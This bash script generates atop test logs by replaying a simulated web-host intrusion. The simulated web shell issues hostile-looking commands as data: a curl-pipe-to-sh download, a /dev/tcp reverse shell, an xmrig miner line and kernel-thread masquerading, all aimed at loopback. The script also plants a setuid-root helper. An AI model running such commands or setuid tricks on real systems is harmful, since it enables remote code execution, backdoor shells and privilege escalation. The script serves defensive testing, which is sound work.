#!/bin/bash
# Writes the atop raw logs of test_data/changes: an intrusion on a web host,
# as each atop release records it.
#
#   test_data/changes/make_logs.sh [DIRECTORY] [RELEASE...]
#
# Every log is written by /usr/local/bin/atop-RELEASE (built from the
# upstream source, see ../shared/tools/build_atop.sh), with `atop -w FILE 1 16`,
# in a PID, UTS and mount namespace of its own with the host name web-1, so
# that it holds the workload's processes only; beside it lies atop's own
# `atop -r FILE -P PRG,PRC,PRM,PRD` output. Run it on an idle machine, with no
# other atop running: process accounting is shared. Needs root and gcc.
#
# The workload, the steps of an intrusion that atop can see:
# * a web server (php-fpm8.2, uid 33) whose children run shell commands: a
#   download piped into a shell (from 127.0.0.1:9, which downloads nothing),
#   a reverse shell to a listener on 127.0.0.1, a shell that executes
#   another program (exec python3 ... evil-arg), a binary dropped into a
#   hidden directory of /tmp (kworkerd), a miner-like command line from
#   /dev/shm, a setuid-root exploit that takes root entirely (pwnkit,
#   uid 33 -> 0), a user process dressed as a kernel thread (exec -a
#   "[kworker/0:2H]"), and one that renames itself (prctl: kworker/0:1);
# * a root service that drops to nobody (svcd, uid 0 -> 65534);
# * a program that changes its command line under the same name, as
#   setproctitle does (postgres);
# * a crash with a core dump (SIGSEGV), a kill -9 and an exit with code 3.
set -eu
DIRECTORY=$(realpath -m "${1:-$(dirname "$0")}")
shift || true
mkdir -p "$DIRECTORY"
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
RELEASES=${*:-"1.26 2.3.0 2.7.1 2.8.1 2.10.0 2.11.1 2.13.0"}

WORK=$(mktemp -d /opt/web-1.XXXXXX)
trap 'rm -rf "$WORK" /tmp/.cache-x /dev/shm/.x' EXIT
chmod 755 "$WORK"

# One small program plays every part; LAB says which, so that its command
# line is free.
cat > "$WORK/labtool.c" <<'EOF'
#define _GNU_SOURCE
#include <grp.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

static void nap(const char *seconds) {
  double value = atof(seconds);
  struct timespec duration = {(time_t)value, (long)((value - (time_t)value) * 1e9)};
  nanosleep(&duration, NULL);
}

static void retitle(int argc, char **argv, const char *title) {
  char *end = argv[argc - 1] + strlen(argv[argc - 1]);
  memset(argv[0], 0, end - argv[0]);
  strncpy(argv[0], title, end - argv[0]);
}

int main(int argc, char **argv) {
  char *words[8] = {0};
  char *lab = strdup(getenv("LAB") ? getenv("LAB") : "sleep 1");
  int count = 0;
  for (char *word = strtok(lab, " "); word && count < 8; word = strtok(NULL, " "))
    words[count++] = word;

  if (!strcmp(words[0], "sleep")) {
    nap(words[1]);
  } else if (!strcmp(words[0], "escalate")) {
    nap(words[1]);
    if (setresgid(0, 0, 0) || setresuid(0, 0, 0)) return 1;
    nap(words[2]);
  } else if (!strcmp(words[0], "drop")) {
    int id = atoi(words[1]);
    nap(words[2]);
    if (setgroups(0, NULL) || setresgid(id, id, id) || setresuid(id, id, id)) return 1;
    nap(words[3]);
  } else if (!strcmp(words[0], "rename")) {
    nap(words[2]);
    prctl(PR_SET_NAME, words[1]);
    nap(words[3]);
  } else if (!strcmp(words[0], "retitle")) {
    nap(words[1]);
    retitle(argc, argv, "postgres: walwriter idle");
    nap(words[2]);
    retitle(argc, argv, "postgres: walwriter active");
    nap(words[3]);
  } else if (!strcmp(words[0], "segv")) {
    nap(words[1]);
    *(volatile int *)0 = 1;
  }
  return 0;
}
EOF
gcc -O2 -o "$WORK/labtool" "$WORK/labtool.c"
cp /usr/bin/python3 "$WORK/php-fpm8.2"
for name in svcd postgres segvtool victim renamer; do cp "$WORK/labtool" "$WORK/$name"; done

# The web application: every request runs a shell command, as a web shell
# does.
cat > "$WORK/app.py" <<'EOF'
import os
import subprocess
import time

WORK = os.path.dirname(os.path.abspath(__file__))
REQUESTS = [
    (0.8, "id; uname -a; sleep 2"),
    (0.3, "curl -fsS http://127.0.0.1:9/x.sh | sh; sleep 2"),
    (0.3, "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'"),
    (0.3, "bash -c 'sleep 2.5; exec python3 -c \"import time; time.sleep(3)\" evil-arg'"),
    (0.3, "mkdir -p /tmp/.cache-x && cp %s/labtool /tmp/.cache-x/kworkerd "
          "&& LAB='sleep 3' exec /tmp/.cache-x/kworkerd" % WORK),
    (0.3, "LAB='sleep 3' exec /dev/shm/.x/xmrig -o stratum+tcp://127.0.0.1:3333 "
          "-u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft --donate-level 1 -t 1"),
    (0.3, "LAB='escalate 1.5 3' exec /tmp/.cache-x/pwnkit"),
    (0.3, "bash -c 'sleep 1.5; exec -a \"[kworker/0:2H]\" sleep 4'"),
    (0.3, "LAB='rename kworker/0:1 1.5 4' exec %s/renamer" % WORK),
]
children = []
for delay, command in REQUESTS:
    time.sleep(delay)
    children.append(subprocess.Popen(["sh", "-c", command]))
for child in children:
    child.wait()
EOF

# What the exploit and the miner are made of, in place before the intrusion.
mkdir -p /tmp/.cache-x /dev/shm/.x
cp "$WORK/labtool" /dev/shm/.x/xmrig
cp "$WORK/labtool" /tmp/.cache-x/pwnkit
chmod 4755 /tmp/.cache-x/pwnkit
chmod 755 /dev/shm/.x
chown 33:33 /tmp/.cache-x

for release in $RELEASES; do
  log="$DIRECTORY/atop_$release.raw"
  rm -f "$log"
  WORK=$WORK LOG=$log ATOP=/usr/local/bin/atop-$release \
    unshare --pid --fork --mount-proc --uts --mount --propagation private bash -s <<'INNER'
set -eu
hostname web-1
cd "$WORK"
"$ATOP" -w "$LOG" 1 16 &
atop=$!
sleep 1.5

# A listener for the reverse shell, on the loopback interface only.
python3 -c 'import socket, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 4444)); s.listen(1); c, _ = s.accept()
c.sendall(b"sleep 3; exit\n"); time.sleep(5)' &

setpriv --reuid=33 --regid=33 --clear-groups "$WORK/php-fpm8.2" "$WORK/app.py" &
LAB='drop 65534 1.5 4' "$WORK/svcd" --config /etc/svcd.conf &
LAB='retitle 1.5 1.5 3' "$WORK/postgres" -D /var/lib/postgresql &
bash -c "ulimit -c unlimited; LAB='segv 2.5' exec $WORK/segvtool" 2>/dev/null || true
LAB='sleep 30' "$WORK/victim" & victim=$!
sh -c 'sleep 1.2; exit 3' || true
sleep 1.5
kill -9 $victim
wait $atop
INNER
  "/usr/local/bin/atop-$release" -r "$log" -P PRG,PRC,PRM,PRD > "$log.parseable.txt"
  echo "$log: $(grep -c '^PRG' "$log.parseable.txt") PRG lines"
done
rm -f "$WORK"/core*
